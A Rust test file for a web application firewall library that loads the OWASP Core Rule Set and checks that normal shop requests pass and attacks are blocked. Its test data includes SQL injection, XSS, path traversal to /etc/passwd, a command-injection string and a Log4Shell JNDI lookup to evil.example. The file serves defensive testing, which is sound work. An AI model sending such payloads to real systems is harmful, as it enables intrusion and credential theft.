//! CRS as shops run it: blocking, at each paranoia level.

use std::path::Path;

use gabion_waf::{Disk, RuleSet, Source};

use crate::harness::{NOW, Request, begin};

/// CRS of Debian's package, blocking at a paranoia level; `None` where it is not installed.
#[expect(clippy::print_stderr, reason = "a test that is not run says so")]
fn blocking(level: u8) -> Option<RuleSet> {
    let setup = Path::new("/etc/modsecurity/crs/crs-setup.conf");
    if !setup.exists() {
        eprintln!("skipped: Debian's modsecurity-crs is not installed");
        return None;
    }
    let engine = format!(
        "SecRuleEngine On\nSecRequestBodyAccess On\nSecAction \"id:1,phase:1,nolog,pass,setvar:tx.paranoia_level={level}\""
    );
    let sources = [
        Source::text("engine.conf", engine),
        Source::File(setup.to_owned()),
        Source::File("/usr/share/modsecurity-crs/rules/*.conf".into()),
    ];
    Some(RuleSet::load(&sources, &Disk).expect("CRS loads"))
}

/// Whether the rules stop a request, and its anomaly score.
fn judge(rules: &RuleSet, request: Request<'_>) -> (bool, i64) {
    let mut transaction = begin(rules, NOW);
    let (method, target) = request.line.split_once(' ').expect("a method and a target");
    let headers: Vec<(&[u8], &[u8])> = request
        .headers
        .iter()
        .filter_map(|line| line.split_once(": "))
        .map(|(name, value)| (name.as_bytes(), value.as_bytes()))
        .collect();
    let head = gabion_waf::RequestHead {
        method: method.as_bytes(),
        target: target.as_bytes(),
        version: b"HTTP/1.1",
        headers: &headers,
    };
    let _ = transaction.request_head(&head);
    let _ = transaction.request_body(request.body);
    let score = transaction.tx_number("anomaly_score").unwrap_or(0);
    (transaction.finish().0.interruption.is_some(), score)
}

const HEADERS: &[&str] = &[
    "Host: shop.example",
    "User-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0",
    "Accept: text/html",
];
const FORM: &[&str] = &[
    "Host: shop.example",
    "User-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0",
    "Accept: text/html",
    "Content-Type: application/x-www-form-urlencoded",
    "Content-Length: 40",
];

#[test]
fn customers_pass_and_attacks_stop_at_paranoia_1() {
    let Some(rules) = blocking(1) else { return };
    for line in [
        "GET /",
        "GET /product/green-tea?size=100g&color=green",
        "GET /search?q=O%27Brien",
        "GET /search?q=tea+and+coffee&page=2&sort=price-asc",
        "GET /assets/app.3f9a1c.js?v=17",
        "GET /kategorie/gr%C3%BCner-tee?seite=3",
    ] {
        let request = Request { line, headers: HEADERS, body: b"" };
        assert_eq!(judge(&rules, request), (false, 0), "{line}");
    }
    for line in [
        "GET /search?q=1%27+UNION+SELECT+password+FROM+users--",
        "GET /search?q=%3Cscript%3Ealert(1)%3C/script%3E",
        "GET /download?file=../../../../etc/passwd",
        "GET /ping?host=127.0.0.1;cat+/etc/passwd",
        "GET /?x=$%7Bjndi:ldap://evil.example/a%7D",
    ] {
        let request = Request { line, headers: HEADERS, body: b"" };
        let (stopped, score) = judge(&rules, request);
        assert!(stopped && score >= 5, "{line}: {score}");
    }
    let order =
        Request { line: "POST /checkout", headers: FORM, body: b"name=Anne+O%27Neil&street=Main+St+5&note=" };
    assert_eq!(judge(&rules, order), (false, 0));
    let attack = Request { line: "POST /login", headers: FORM, body: b"user=admin%27+OR+1%3D1--&password=x" };
    assert!(judge(&rules, attack).0);
}

#[test]
fn higher_levels_are_stricter() {
    let scores: Vec<i64> = (1..=4)
        .map_while(blocking)
        .map(|rules| {
            let line = "GET /search?q=select+a+tea;+drink+%7B%7D+it+--+%27now%27+%26+then";
            judge(&rules, Request { line, headers: HEADERS, body: b"" }).1
        })
        .collect();
    assert!(scores.windows(2).all(|pair| pair[0] <= pair[1]), "{scores:?}");
    assert!(scores.is_empty() || scores[0] < scores[3], "{scores:?}");
}
